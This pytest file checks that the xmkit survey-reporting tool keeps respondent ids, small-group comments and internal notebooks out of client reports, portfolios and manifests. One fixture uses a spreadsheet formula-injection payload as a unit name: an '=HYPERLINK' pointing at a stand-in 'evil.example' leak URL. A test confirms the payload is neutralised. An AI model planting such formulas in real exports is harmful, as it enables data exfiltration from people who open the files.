"""What a client sees never identifies a respondent.

* No respondent id, and no answer row, reaches a report (HTML, PDF), the portfolio
  (index.html, portfolio.csv, portfolio.xlsx) or the manifest.
* Free-text comments appear only when asked for (``--include-comments``), only for groups at
  or above the minimum group size, in alphabetical order, without ids or roles.
* The executed notebook, which holds the kernel's intermediate tables, is written only when
  asked for, and the README says it is internal.

Two real renders: a batch with comments (one unit report as HTML and PDF, plus the portfolio)
and one CLI report without them.
"""

from __future__ import annotations

import html
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from batch_helpers import pdf_text, portfolio

import xmkit
from xmkit.batch.run import run_batch
from xmkit.cli import build_parser
from xmkit.options import Options, given_flags
from xmkit.report import sections as xr

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[1]
XMKIT = Path(sys.executable).parent / "xmkit"
CLIENT = "Confidential Client"
HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?leak","open")'
COMMENTS = {
    "North": ["Zebra crossings near the store are dangerous", "alpha: we never see the NPS"],
    "Tiny Team": ["As the only analyst here I feel ignored"],
    HOSTILE_UNIT: ["Our manager reads every survey"],
}


def make_responses(framework: xmkit.Framework) -> pd.DataFrame:
    """North: 6 respondents (one alone in their role); Tiny Team: 2; the hostile unit: 3."""
    rng = np.random.default_rng(11)
    rows = []
    plan = [("North", 6), ("Tiny Team", 2), (HOSTILE_UNIT, 3)]
    for unit, n in plan:
        for i in range(n):
            comment = COMMENTS[unit][i] if i < len(COMMENTS[unit]) else ""
            role = "Solo Analyst" if (unit == "North" and i == 5) else "Frontline"
            rid = f"CONF-{len(rows) + 1:04d}-ID"
            rows.append({"respondent_id": rid, "unit": unit, "role": role, "comment": comment})
    data = pd.DataFrame(rows)
    answers = rng.integers(1, 6, size=(len(data), len(framework.question_ids)))
    answers = pd.DataFrame(answers, columns=framework.question_ids)
    return pd.concat([data, answers], axis=1)


def all_text(folder: Path) -> dict[Path, str]:
    """Every output file's text: HTML and CSV as they are, PDF and XLSX extracted."""
    texts = {}
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        if path.suffix == ".pdf":
            texts[path] = pdf_text(path)
        elif path.suffix == ".xlsx":
            book = openpyxl.load_workbook(path)
            texts[path] = " ".join(
                str(c.value) for row in book.active.iter_rows() for c in row if c.value is not None
            )
        else:
            texts[path] = path.read_text(encoding="utf-8")
    return texts


@dataclass
class Batch:
    out: Path
    data: pd.DataFrame
    texts: dict[Path, str]
    slugs: dict[str, str]


@pytest.fixture(scope="module")
def framework() -> xmkit.Framework:
    return xmkit.load_framework()


@pytest.fixture(scope="module")
def batch(tmp_path_factory, framework) -> Batch:
    if shutil.which("pdftotext") is None:
        pytest.fail("pdftotext not found: install Debian's 'poppler-utils' package")
    base = tmp_path_factory.mktemp("conf")
    data = make_responses(framework)
    source = base / "responses.csv"
    data.to_csv(source, index=False)
    out = base / "out"
    [result] = run_batch(
        source,
        client=CLIENT,
        output_dir=out,
        formats="html,pdf",
        min_group_size=5,
        quiet=True,
        include_comments=True,
    )
    assert not result.failed, result.summary()
    slugs = {u.unit: u.slug for u in result.units}
    return Batch(out, data, all_text(out), slugs)


@pytest.fixture(scope="module")
def plain_report(tmp_path_factory, framework) -> Path:
    """``xmkit report --unit North --format html,ipynb``, without --include-comments."""
    base = tmp_path_factory.mktemp("plain")
    source = base / "responses.csv"
    make_responses(framework).to_csv(source, index=False)
    args = ["report", source, "--client", CLIENT, "--unit", "North", "--format", "html,ipynb"]
    done = subprocess.run(
        [str(XMKIT), *args, "-o", base / "out"],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    return base / "out" / "confidential-client" / "north"


def test_batch_outputs_hold_no_respondent_id(batch):
    ids = batch.data["respondent_id"].tolist()
    assert len(batch.texts) >= 6  # unit html + pdf, index.html, csv, xlsx, manifest
    for path, text in batch.texts.items():
        for rid in ids:
            assert rid not in text, (path, rid)
        assert "CONF-" not in text, path


def test_batch_writes_no_executed_notebook_unless_asked(batch):
    assert not list(batch.out.rglob("*.ipynb"))


def test_comments_of_a_group_at_the_minimum_size_are_shown_in_its_html_and_pdf(batch):
    folder = batch.out / batch.slugs["North"]
    page = batch.texts[folder / "report.html"]
    pdf = batch.texts[folder / "report.pdf"]
    assert "<h2>Comments</h2>" in page
    for comment in COMMENTS["North"]:
        assert html.escape(comment) in page, comment
        assert comment in pdf, comment
    # alphabetical, not in file order (which follows respondents)
    first, second = sorted(COMMENTS["North"], key=str.lower)
    assert page.index(html.escape(first)) < page.index(html.escape(second))


def test_comments_of_groups_below_the_minimum_size_appear_nowhere(batch):
    for unit in ("Tiny Team", HOSTILE_UNIT):
        for comment in COMMENTS[unit]:
            for path, text in batch.texts.items():
                assert comment not in text and html.escape(comment) not in text, (path, unit)
    for unit in ("Tiny Team", HOSTILE_UNIT):
        assert not (batch.out / batch.slugs[unit]).exists(), unit


def test_a_role_of_one_respondent_is_named_without_any_score(batch):
    page = batch.texts[batch.out / batch.slugs["North"] / "report.html"]
    rows = re.findall(r"<tr><td>Solo Analyst</td>(.*?)</tr>", page)
    assert rows, "the role table lists every role"
    assert "fewer than 5 responses" in rows[0]
    assert not re.search(r"\d\.\d\d", rows[0]), rows[0]


def test_portfolio_lists_small_units_without_scores_and_neutralizes_hostile_names(batch):
    by_unit = portfolio(batch.out).set_index("unit")
    for unit in ("Tiny Team", "'" + HOSTILE_UNIT):
        row = by_unit.loc[unit]
        assert row["status"] == "skipped"
        assert pd.isna(row["overall"]) and pd.isna(row["stage"]), unit
    assert HOSTILE_UNIT not in by_unit.index  # written as text, never as a formula
    book = openpyxl.load_workbook(batch.out / "portfolio.xlsx")
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert "'" + HOSTILE_UNIT in [c.value for c in cells]


def test_report_without_include_comments_shows_none_and_writes_the_notebook_only_when_asked(
    plain_report,
):
    page = (plain_report / "report.html").read_text(encoding="utf-8")
    assert "<h2>Comments</h2>" not in page
    for comments in COMMENTS.values():
        for comment in comments:
            assert html.escape(comment) not in page and comment not in page
    assert "CONF-" not in page
    assert (plain_report / "report.ipynb").is_file()  # asked for with --format html,ipynb


def test_comments_are_kept_only_for_units_at_the_minimum_size(framework):
    data = make_responses(framework)
    org = xr.prepare(data, CLIENT, framework=framework, n_boot=0, include_comments=True)
    assert org.comments == {"North": sorted(COMMENTS["North"], key=str.lower)}
    assert org.comments_withheld == 2
    small = xr.prepare(
        data, CLIENT, "Tiny Team", framework=framework, n_boot=0, include_comments=True
    )
    assert small.comments == {}
    assert "As the only analyst" not in xr.comments(small)
    off = xr.prepare(data, CLIENT, framework=framework, n_boot=0)
    assert off.comments == {} and xr.comments(off) == ""


def test_include_comments_is_an_option_of_report_and_batch_and_off_by_default():
    parser = build_parser()
    for command in ("report", "batch"):
        off = given_flags(parser.parse_args([command, "x.csv"]), command)
        assert Options.checked(off).include_comments is False
        on = given_flags(parser.parse_args([command, "x.csv", "--include-comments"]), command)
        assert Options.checked(on).include_comments is True


def test_readme_says_the_executed_notebook_is_internal_and_written_only_on_request():
    readme = " ".join((ROOT / "README.md").read_text(encoding="utf-8").split())
    assert "for internal use only" in readme
    assert "written only when asked for" in readme
